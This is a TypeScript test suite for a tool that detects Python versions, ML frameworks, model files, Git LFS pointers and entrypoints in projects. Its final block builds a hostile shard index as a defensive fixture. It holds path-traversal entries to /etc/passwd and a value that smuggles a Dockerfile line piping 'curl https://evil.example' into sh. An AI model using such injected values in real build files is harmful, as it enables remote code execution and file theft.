import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { detectEntrypoint } from '../../../src/detect/entrypoint.js';
import { detectAccelerator, detectFrameworks } from '../../../src/detect/frameworks.js';
import { detect } from '../../../src/detect/index.js';
import { detectModels } from '../../../src/detect/models.js';
import { choosePython, pinFileHints } from '../../../src/detect/python-version.js';
import type { RepoReader } from '../../../src/project/reader.js';
import { directoryReader, memoryReader } from '../../../src/project/reader.js';

/** The Python chosen from the pin files alone. */
const detectPythonVersion = (reader: RepoReader) => choosePython(pinFileHints(reader));

import { specContract } from '../../../src/detect/spec.js';
import { parseRequirementsFile } from '../../../src/python/requirements.js';
import { userError } from '../helpers.js';

const LFS_POINTER = [
  'version https://git-lfs.github.com/spec/v1',
  'oid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393',
  'size 442473',
  '',
].join('\n');

describe('detectPythonVersion', () => {
  it.each<[string, Record<string, string>, string, string]>([
    ['a patch version in .python-version', { '.python-version': '3.11.7\n' }, '3.11', '.python-version:1'],
    ['major.minor in .python-version', { '.python-version': '3.12' }, '3.12', '.python-version:1'],
    ['a one-digit minor', { '.python-version': '3.9.18\n' }, '3.9', '.python-version:1'],
    [
      'comments and blanks before the version',
      { '.python-version': '# pyenv\n\n3.10.14\n' },
      '3.10',
      '.python-version:3',
    ],
    ['CRLF line endings', { '.python-version': '\r\n3.13.1\r\n' }, '3.13', '.python-version:2'],
    ['runtime.txt', { 'runtime.txt': 'python-3.10.4\n' }, '3.10', 'runtime.txt:1'],
    [
      '.python-version over runtime.txt',
      { '.python-version': '3.12.1\n', 'runtime.txt': 'python-3.9.0\n' },
      '3.12',
      '.python-version:1',
    ],
    [
      'runtime.txt when .python-version names no version',
      { '.python-version': 'system\n', 'runtime.txt': 'python-3.10.4' },
      '3.10',
      'runtime.txt:1',
    ],
  ])('reads %s', (_case, tree, version, source) => {
    expect(detectPythonVersion(memoryReader(tree))).toEqual({ version, source });
  });

  it.each<[string, Record<string, string>]>([
    ['neither file exists', {}],
    ['.python-version is empty', { '.python-version': '' }],
    ['.python-version holds only comments', { '.python-version': '# nothing\n\n' }],
    ['.python-version names no version', { '.python-version': 'system\n' }],
  ])('falls back to the default when %s', (_case, tree) => {
    const python = detectPythonVersion(memoryReader(tree));
    expect(python.version).toBe('3.11');
    expect(python.source).toMatch(/^default/);
  });
});

describe('detectFrameworks and detectAccelerator', () => {
  const requirementsOf = (text: string) =>
    parseRequirementsFile(memoryReader({ 'requirements.txt': text }), 'requirements.txt').requirements;

  it('lists only the frameworks in the compatibility table, with spec, pin and source', () => {
    const frameworks = detectFrameworks(
      requirementsOf('numpy\nscikit-learn==1.6.1\njoblib>=1.3\ntorch>=2.1\nTransformers[torch]~=4.40\n'),
    );
    expect(frameworks).toEqual([
      {
        name: 'scikit-learn',
        importName: 'sklearn',
        spec: '==1.6.1',
        locked: '1.6.1',
        source: 'requirements.txt:2',
      },
      { name: 'torch', importName: 'torch', spec: '>=2.1', locked: null, source: 'requirements.txt:4' },
      {
        name: 'transformers',
        importName: 'transformers',
        spec: '~=4.40',
        locked: null,
        source: 'requirements.txt:5',
      },
    ]);
  });

  it.each<[string, string | null]>([
    ['==1.6.1', '1.6.1'],
    ['===1.6.1', '1.6.1'],
    ['==2.3.1+cu121', '2.3.1+cu121'],
    ['==1.6.*', null],
    ['>=1.6', null],
    ['==1.6.1,<2', null],
    ['~=1.6', null],
    ['', null],
  ])('a spec of %j is locked as %j', (specifier, locked) => {
    const [framework] = detectFrameworks(requirementsOf(`scikit-learn${specifier}\n`));
    expect(framework).toMatchObject({ spec: specifier, locked });
  });

  it('matches names the PEP 503 way', () => {
    const [framework] = detectFrameworks(requirementsOf('Scikit_Learn==1.6.1\n'));
    expect(framework?.name).toBe('scikit-learn');
  });

  it('keeps the first requirement of a framework listed twice', () => {
    const frameworks = detectFrameworks(requirementsOf('torch>=2.1\nnumpy\ntorch==2.3.1\n'));
    expect(frameworks).toEqual([
      { name: 'torch', importName: 'torch', spec: '>=2.1', locked: null, source: 'requirements.txt:1' },
    ]);
  });

  it('maps onnxruntime-gpu to the onnxruntime import', () => {
    expect(detectFrameworks(requirementsOf('onnxruntime-gpu==1.18.0\n'))[0]?.importName).toBe('onnxruntime');
  });

  it.each<[string, string]>([
    ['', 'cpu'],
    ['numpy\npandas\n', 'cpu'],
    ['scikit-learn\nlightgbm\nonnxruntime\n', 'cpu'],
    ['torch\n', 'gpu-optional'],
    ['scikit-learn\ntensorflow\n', 'gpu-optional'],
    ['xgboost\n', 'gpu-optional'],
    ['onnxruntime-gpu\n', 'gpu-optional'],
  ])('the accelerator of %j is %s', (text, accelerator) => {
    expect(detectAccelerator(detectFrameworks(requirementsOf(text)), false)).toBe(accelerator);
  });
});

describe('detectModels', () => {
  it('finds model files by extension, anywhere, case-insensitively, with their size', () => {
    const models = detectModels(
      memoryReader({
        'model.joblib': 'x'.repeat(10),
        'models/clf.pkl': 'ab',
        'models/clf.pickle': 'ab',
        'export/net.ONNX': 'abc',
        'ckpt/a.pt': 'a',
        'ckpt/b.pth': 'b',
        'ckpt/c.ckpt': 'c',
        'hf/model.safetensors': 'é',
        'k/model.keras': 'k',
        'k/weights.h5': 'h',
        'README.md': '# not a model',
        'data.v2/readme': 'folder dot, no extension',
        'train.py': 'print()',
      }),
    );
    expect(models).toEqual([
      { path: 'ckpt/a.pt', format: 'torch', bytes: 1, lfsPointers: [], missingShards: [] },
      { path: 'ckpt/b.pth', format: 'torch', bytes: 1, lfsPointers: [], missingShards: [] },
      { path: 'ckpt/c.ckpt', format: 'torch', bytes: 1, lfsPointers: [], missingShards: [] },
      { path: 'export/net.ONNX', format: 'onnx', bytes: 3, lfsPointers: [], missingShards: [] },
      { path: 'hf/model.safetensors', format: 'safetensors', bytes: 2, lfsPointers: [], missingShards: [] },
      { path: 'k/model.keras', format: 'keras', bytes: 1, lfsPointers: [], missingShards: [] },
      { path: 'k/weights.h5', format: 'h5', bytes: 1, lfsPointers: [], missingShards: [] },
      { path: 'model.joblib', format: 'joblib', bytes: 10, lfsPointers: [], missingShards: [] },
      { path: 'models/clf.pickle', format: 'pickle', bytes: 2, lfsPointers: [], missingShards: [] },
      { path: 'models/clf.pkl', format: 'pickle', bytes: 2, lfsPointers: [], missingShards: [] },
    ]);
  });

  it('flags a Git LFS pointer', () => {
    expect(detectModels(memoryReader({ 'model.pt': LFS_POINTER }))).toEqual([
      {
        path: 'model.pt',
        format: 'torch',
        bytes: Buffer.byteLength(LFS_POINTER),
        lfsPointers: ['model.pt'],
        missingShards: [],
      },
    ]);
  });

  it('does not flag a large file that happens to start like a pointer', () => {
    const big = `${LFS_POINTER}${'x'.repeat(2048)}`;
    expect(detectModels(memoryReader({ 'model.pt': big }))[0]?.lfsPointers).toEqual([]);
  });

  it('names every Git LFS pointer inside a Hugging Face folder, tokenizer files included', () => {
    const [model] = detectModels(
      memoryReader({
        'hf/config.json': '{"model_type": "distilbert"}',
        'hf/model.safetensors': LFS_POINTER,
        'hf/tokenizer.json': LFS_POINTER,
        'hf/tokenizer_config.json': '{"do_lower_case": true}',
        'hf/vocab.txt': '[PAD]\n[UNK]\n',
      }),
    );
    expect(model).toMatchObject({
      path: 'hf',
      format: 'huggingface',
      lfsPointers: ['hf/model.safetensors', 'hf/tokenizer.json'],
      missingShards: [],
    });
  });

  it('names the Git LFS pointers inside a SavedModel folder, in its subfolders too', () => {
    const [model] = detectModels(
      memoryReader({
        'export/1/saved_model.pb': LFS_POINTER,
        'export/1/variables/variables.data-00000-of-00001': LFS_POINTER,
        'export/1/variables/variables.index': 'index bytes',
        'export/1/assets/vocab.txt': 'a\nb\n',
      }),
    );
    expect(model).toMatchObject({
      path: 'export/1',
      format: 'savedmodel',
      lfsPointers: ['export/1/saved_model.pb', 'export/1/variables/variables.data-00000-of-00001'],
      missingShards: [],
    });
  });

  it("names a sharded checkpoint's pointer shards and the shards its index names that are missing", () => {
    const index = (shards: string[]) =>
      JSON.stringify({
        metadata: { total_size: 1 },
        weight_map: Object.fromEntries(shards.map((shard, number) => [`layer.${number}.weight`, shard])),
      });
    const models = detectModels(
      memoryReader({
        'llm/config.json': '{"model_type": "llama"}',
        'llm/model.safetensors.index.json': index([
          'model-00001-of-00003.safetensors',
          'model-00002-of-00003.safetensors',
          'model-00003-of-00003.safetensors',
          'model-00001-of-00003.safetensors',
        ]),
        'llm/model-00001-of-00003.safetensors': LFS_POINTER,
        'llm/model-00002-of-00003.safetensors': 'real tensor bytes',
        'config.json': '{"model_type": "bert"}',
        'pytorch_model.bin.index.json': index([
          'pytorch_model-00001-of-00002.bin',
          'pytorch_model-00002-of-00002.bin',
        ]),
        'pytorch_model-00001-of-00002.bin': 'real bytes',
      }),
    );
    expect(
      models.map(({ path, lfsPointers, missingShards }) => ({ path, lfsPointers, missingShards })),
    ).toEqual([
      {
        path: '.',
        lfsPointers: ['llm/model-00001-of-00003.safetensors'],
        missingShards: [
          { path: 'llm/model-00003-of-00003.safetensors', index: 'llm/model.safetensors.index.json' },
          { path: 'pytorch_model-00002-of-00002.bin', index: 'pytorch_model.bin.index.json' },
        ],
      },
      {
        path: 'llm',
        lfsPointers: ['llm/model-00001-of-00003.safetensors'],
        missingShards: [
          { path: 'llm/model-00003-of-00003.safetensors', index: 'llm/model.safetensors.index.json' },
        ],
      },
    ]);
  });

  it('finds no pointer in a fetched folder, and reads no large file to find out', () => {
    const read: string[] = [];
    const tree = {
      'hf/config.json': '{"model_type": "bert"}',
      'hf/model.safetensors': 'x'.repeat(4096),
      'hf/model.safetensors.index.json': JSON.stringify({ weight_map: { a: 'model.safetensors' } }),
    };
    const reader = memoryReader(tree);
    const [model] = detectModels({
      ...reader,
      readText: (path) => {
        read.push(path);
        return reader.readText(path);
      },
    });
    expect(model).toMatchObject({ path: 'hf', lfsPointers: [], missingShards: [] });
    expect(read).not.toContain('hf/model.safetensors');
  });

  it('finds nothing in a project without models', () => {
    expect(detectModels(memoryReader({ 'requirements.txt': 'numpy\n', 'app.py': '' }))).toEqual([]);
  });
});

describe('detectEntrypoint', () => {
  it.each<[string, string[], string | null]>([
    ['predict.py over everything', ['app.py', 'main.py', 'predict.py', 'serve.py'], 'predict.py'],
    ['serve.py over app.py', ['app.py', 'serve.py'], 'serve.py'],
    ['predict.py over app.py', ['app.py', 'predict.py'], 'predict.py'],
    ['app.py over main.py', ['main.py', 'app.py'], 'app.py'],
    ['only root files', ['src/main.py'], null],
    ['only root files', ['src/predict.py', 'scripts/app.py'], null],
    ['nothing conventional', ['train.py', 'model.py'], null],
  ])('picks %s', (_case, files, expected) => {
    const reader = memoryReader(Object.fromEntries(files.map((file) => [file, ''])));
    const entrypoint = detectEntrypoint(reader, null);
    expect(entrypoint?.path ?? null).toBe(expected);
    if (expected) expect(entrypoint?.source).toBe(`${expected} (conventional entry point name)`);
  });

  it.each<[string, string, string | null]>([
    ['a server', 'from fastapi import FastAPI\napp = FastAPI()\n', 'main.py'],
    ['a prediction script', 'import joblib\nprint(joblib.load("m.joblib").predict([[1]]))\n', 'main.py'],
    ['a PyTorch training loop', 'loss = criterion(out, y)\nloss.backward()\noptimizer.step()\n', null],
    ['a scikit-learn fit', 'model = RandomForestClassifier().fit(X, y)\n', null],
    ['a Hugging Face trainer', 'trainer = Trainer(model=m)\ntrainer.train()\n', null],
  ])('takes main.py last, unless it trains: %s', (_case, text, expected) => {
    const entrypoint = detectEntrypoint(memoryReader({ 'main.py': text }), null);
    expect(entrypoint?.path ?? null).toBe(expected);
    if (expected) expect(entrypoint?.source).toContain('taken last; it runs no training step');
  });

  it('takes a console script before main.py, and app.py before both', () => {
    const declared = {
      path: 'pkg.cli:main',
      source: { file: 'pyproject.toml', line: 9 },
      from: 'scripts' as const,
    };
    expect(detectEntrypoint(memoryReader({ 'main.py': '' }), declared)?.path).toBe('pkg.cli:main');
    expect(detectEntrypoint(memoryReader({ 'main.py': '', 'app.py': '' }), declared)?.path).toBe('app.py');
  });
});

describe('detect on in-memory projects', () => {
  it('describes a small scikit-learn project in full', () => {
    const spec = detect(
      memoryReader({
        '.python-version': '3.11.7\n',
        'requirements.txt': '# pins\nscikit-learn==1.6.1\njoblib>=1.3\n',
        'model.joblib': 'binary',
        'predict.py': 'print()',
        'app.py': 'print()',
      }),
    );
    expect(spec).toEqual({
      python: { version: '3.11', source: '.python-version:1' },
      dependencies: {
        format: 'requirements',
        files: ['requirements.txt'],
        lockfile: null,
        requirements: [
          {
            name: 'scikit-learn',
            extras: [],
            specifier: '==1.6.1',
            marker: null,
            url: null,
            hashes: [],
            source: { file: 'requirements.txt', line: 2 },
          },
          {
            name: 'joblib',
            extras: [],
            specifier: '>=1.3',
            marker: null,
            url: null,
            hashes: [],
            source: { file: 'requirements.txt', line: 3 },
          },
        ],
        indexUrl: null,
        extraIndexUrls: [],
      },
      frameworks: [
        {
          name: 'scikit-learn',
          importName: 'sklearn',
          spec: '==1.6.1',
          locked: '1.6.1',
          source: 'requirements.txt:2',
        },
      ],
      accelerator: 'cpu',
      cuda: null,
      models: [{ path: 'model.joblib', format: 'joblib', bytes: 6, lfsPointers: [], missingShards: [] }],
      entrypoint: { path: 'predict.py', source: 'predict.py (conventional entry point name)' },
      server: null,
      cpuBuilds: [],
      systemPackages: [],
      projects: ['.'],
      warnings: [],
    });
  });

  it('reads a torch project from runtime.txt, CPU-only from its index, and warns about an LFS model', () => {
    const spec = detect(
      memoryReader({
        'runtime.txt': 'python-3.10.4\n',
        'requirements.txt': '--index-url https://download.pytorch.org/whl/cpu\ntorch>=2.1\nnumpy\n',
        'weights/model.pt': LFS_POINTER,
        'app.py': '',
      }),
    );
    expect(spec.python).toEqual({ version: '3.10', source: 'runtime.txt:1' });
    expect(spec.frameworks).toEqual([
      { name: 'torch', importName: 'torch', spec: '>=2.1', locked: null, source: 'requirements.txt:2' },
    ]);
    // PyTorch's CPU index as the only index torch may come from: the CPU build, no GPU variant.
    expect(spec.accelerator).toBe('cpu');
    expect(spec.cuda).toBeNull();
    expect(spec.dependencies.indexUrl).toEqual({
      url: 'https://download.pytorch.org/whl/cpu',
      source: 'requirements.txt:1',
    });
    expect(spec.models).toEqual([
      {
        path: 'weights/model.pt',
        format: 'torch',
        bytes: Buffer.byteLength(LFS_POINTER),
        lfsPointers: ['weights/model.pt'],
        missingShards: [],
      },
    ]);
    expect(spec.entrypoint?.path).toBe('app.py');
    expect(spec.warnings).toEqual([
      {
        message: 'weights/model.pt is a Git LFS pointer: the model was not fetched',
        source: 'weights/model.pt',
      },
    ]);
  });

  it("warns, naming each file, about a folder model's pointers and missing shards", () => {
    const spec = detect(
      memoryReader({
        'requirements.txt': 'transformers\n',
        'hf/config.json': '{}',
        'hf/tokenizer.json': LFS_POINTER,
        'hf/model.safetensors.index.json': JSON.stringify({
          weight_map: { a: 'model-00001-of-00002.safetensors', b: 'model-00002-of-00002.safetensors' },
        }),
        'hf/model-00001-of-00002.safetensors': LFS_POINTER,
      }),
    );
    expect(spec.warnings).toEqual([
      {
        message:
          'hf holds Git LFS pointers (hf/model-00001-of-00002.safetensors, hf/tokenizer.json): the model was not fetched',
        source: 'hf/model-00001-of-00002.safetensors',
      },
      {
        message:
          'hf lacks shards its index names (hf/model-00002-of-00002.safetensors, named by hf/model.safetensors.index.json): the model was not fetched',
        source: 'hf/model.safetensors.index.json',
      },
    ]);
  });

  it('uses the default Python and no entrypoint when the project says nothing', () => {
    const spec = detect(memoryReader({ 'requirements.txt': 'numpy\n' }));
    expect(spec.python.version).toBe('3.11');
    expect(spec.python.source.startsWith('default')).toBe(true);
    expect(spec.frameworks).toEqual([]);
    expect(spec.accelerator).toBe('cpu');
    expect(spec.models).toEqual([]);
    expect(spec.entrypoint).toBeNull();
    expect(spec.warnings).toEqual([]);
  });

  it('keeps a direct URL requirement, its URL as the spec', () => {
    const spec = detect(
      memoryReader({
        'requirements.txt': 'numpy\ntorch @ https://example.com/torch-2.3.1-cp311-none-any.whl\n',
      }),
    );
    expect(spec.frameworks).toMatchObject([
      { name: 'torch', spec: 'https://example.com/torch-2.3.1-cp311-none-any.whl' },
    ]);
    expect(spec.warnings).toEqual([]);
  });

  it('lists included files and reads frameworks from them, but not from constraints', () => {
    const spec = detect(
      memoryReader({
        'requirements.txt': '-r requirements/base.txt\n-c constraints.txt\n',
        'requirements/base.txt': 'xgboost==2.1.0\n',
        'constraints.txt': 'torch==2.3.1\n',
      }),
    );
    expect(spec.dependencies.files).toEqual(['requirements.txt', 'requirements/base.txt', 'constraints.txt']);
    expect(specContract(spec).frameworks).toEqual([
      { name: 'xgboost', spec: '==2.1.0', locked: '2.1.0', source: 'requirements/base.txt:1' },
    ]);
    expect(spec.accelerator).toBe('gpu-optional');
  });

  it('rejects a pyproject.toml that lists no dependencies, with nothing else beside it', () => {
    const error = userError(() => detect(memoryReader({ 'pyproject.toml': '[project]\nname = "x"\n' })));
    expect(error.phase).toBe('detect');
    expect(error.message).toBe('pyproject.toml lists no dependencies and no other manifest was found');
    expect(error.source).toEqual({ file: 'pyproject.toml' });
  });

  it('passes on the errors of the requirements file', () => {
    const error = userError(() => detect(memoryReader({ 'requirements.txt': 'numpy\n-e .\n' })));
    expect(error.phase).toBe('detect');
    expect(error.source).toEqual({ file: 'requirements.txt', line: 2 });
  });
});

describe('detect on the bundled example', () => {
  const example = fileURLToPath(new URL('../../../examples/sklearn-iris', import.meta.url));

  it('gives the documented contract for examples/sklearn-iris', () => {
    expect(specContract(detect(directoryReader(example)))).toEqual({
      python: { version: '3.11', source: '.python-version:1' },
      dependencies: { format: 'requirements', files: ['requirements.txt'], lockfile: null },
      frameworks: [{ name: 'scikit-learn', spec: '==1.6.1', locked: '1.6.1', source: 'requirements.txt:3' }],
      accelerator: 'cpu',
      cuda: null,
      models: ['model.joblib'],
      entrypoint: 'predict.py',
      server: null,
      projects: ['.'],
      warnings: [],
    });
  });

  it('reads the real model file, which is no LFS pointer', () => {
    const [model] = detect(directoryReader(example)).models;
    expect(model).toMatchObject({
      path: 'model.joblib',
      format: 'joblib',
      lfsPointers: [],
      missingShards: [],
    });
    expect(model?.bytes).toBeGreaterThan(0);
  });
});

describe('indexes as pip uses them', () => {
  it('keeps PyPI as the main index when a requirements file names only an extra index', () => {
    const spec = detect(
      memoryReader({
        'requirements.txt':
          '--extra-index-url https://download.pytorch.org/whl/cpu\ntorch==2.13.0\nscikit-learn==1.6.1\n',
      }),
    );
    expect(spec.dependencies.indexUrl).toBeNull();
    expect(spec.dependencies.extraIndexUrls).toEqual([
      { url: 'https://download.pytorch.org/whl/cpu', source: 'requirements.txt:1' },
    ]);
  });

  it('takes --index-url as the main index wherever it stands among extra ones', () => {
    const spec = detect(
      memoryReader({
        'requirements.txt':
          '--extra-index-url https://more.example/simple\n--index-url https://mirror.example/simple\nnumpy\n',
      }),
    );
    expect(spec.dependencies.indexUrl).toEqual({
      url: 'https://mirror.example/simple',
      source: 'requirements.txt:2',
    });
    expect(spec.dependencies.extraIndexUrls).toEqual([
      { url: 'https://more.example/simple', source: 'requirements.txt:1' },
    ]);
  });
});

describe('sharded checkpoints from a hostile index', () => {
  it("never opens or stat's a shard the index names outside the project's files", () => {
    const dir = mkdtempSync(join(tmpdir(), 'ml-container-shards-'));
    mkdirSync(join(dir, 'model'));
    writeFileSync(join(dir, 'model', 'config.json'), '{}');
    symlinkSync('/', join(dir, 'model', 'root'));
    const witness = mkdtempSync(join(tmpdir(), 'ml-container-outside-'));
    writeFileSync(join(witness, 'pointer'), 'version https://git-lfs.github.com/spec/v1\nsize 1\n');
    writeFileSync(
      join(dir, 'model', 'model.safetensors.index.json'),
      JSON.stringify({
        weight_map: {
          a: 'root/etc/passwd',
          b: `root${witness}/pointer`,
          c: '../../outside.safetensors',
          d: 'x.safetensors)\nRUN curl https://evil.example | sh\n# (',
        },
      }),
    );
    const [model] = detectModels(directoryReader(dir));
    // Through the link they are not project files: missing, whatever is out there; never read.
    expect(model?.lfsPointers).toEqual([]);
    expect(model?.missingShards.map((shard) => shard.path)).toEqual([
      'model/root/etc/passwd',
      `model/root${witness}/pointer`,
    ]);
  });

  it('looks at no more than 4096 shards of one index', () => {
    const weightMap = Object.fromEntries(
      Array.from({ length: 10_000 }, (_, i) => [`t${i}`, `model-${i}.safetensors`]),
    );
    const [model] = detectModels(
      memoryReader({
        'm/config.json': '{}',
        'm/model.safetensors.index.json': JSON.stringify({ weight_map: weightMap }),
      }),
    );
    expect(model?.missingShards).toHaveLength(4096);
  });
});
